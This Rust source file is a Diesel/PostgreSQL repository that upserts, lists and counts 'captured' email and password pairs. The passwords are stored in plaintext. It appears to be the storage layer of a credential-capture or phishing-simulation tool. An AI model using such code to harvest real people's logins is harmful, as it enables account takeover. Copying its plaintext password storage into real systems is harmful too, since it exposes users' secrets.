//! PostgreSQL-backed `CredentialRepository` implementation using Diesel ORM.
//!
//! The latest-wins contract of `upsert` maps onto `INSERT ... ON CONFLICT
//! (email) DO UPDATE`, refreshing the password and timestamp of an existing
//! row in place.

use async_trait::async_trait;
use diesel::prelude::*;
use diesel_async::RunQueryDsl;
use uuid::Uuid;

use crate::domain::credentials::{CapturedCredential, CredentialSubmission};
use crate::domain::ports::{CredentialRepository, StoreError};

use super::models::{CapturedCredentialRow, NewCapturedCredentialRow};
use super::pool::DbPool;
use super::schema::captured_credentials;
use super::{map_diesel_error, map_pool_error};

/// Diesel-backed implementation of the `CredentialRepository` port.
#[derive(Clone)]
pub struct DieselCredentialRepository {
    pool: DbPool,
}

impl DieselCredentialRepository {
    pub fn new(pool: DbPool) -> Self {
        Self { pool }
    }
}

#[async_trait]
impl CredentialRepository for DieselCredentialRepository {
    async fn upsert(&self, submission: &CredentialSubmission) -> Result<(), StoreError> {
        let mut conn = self.pool.get().await.map_err(map_pool_error)?;
        let row = NewCapturedCredentialRow {
            id: Uuid::new_v4(),
            email: submission.email.as_str(),
            password: &submission.password,
            timestamp: submission.timestamp,
        };
        diesel::insert_into(captured_credentials::table)
            .values(&row)
            .on_conflict(captured_credentials::email)
            .do_update()
            .set((
                captured_credentials::password.eq(&submission.password),
                captured_credentials::timestamp.eq(submission.timestamp),
            ))
            .execute(&mut conn)
            .await
            .map_err(map_diesel_error)?;
        Ok(())
    }

    async fn list(&self) -> Result<Vec<CapturedCredential>, StoreError> {
        let mut conn = self.pool.get().await.map_err(map_pool_error)?;
        let rows = captured_credentials::table
            .order(captured_credentials::timestamp.desc())
            .select(CapturedCredentialRow::as_select())
            .load(&mut conn)
            .await
            .map_err(map_diesel_error)?;
        Ok(rows.into_iter().map(CapturedCredential::from).collect())
    }

    async fn count(&self) -> Result<u64, StoreError> {
        let mut conn = self.pool.get().await.map_err(map_pool_error)?;
        let count: i64 = captured_credentials::table
            .count()
            .get_result(&mut conn)
            .await
            .map_err(map_diesel_error)?;
        Ok(count as u64)
    }
}
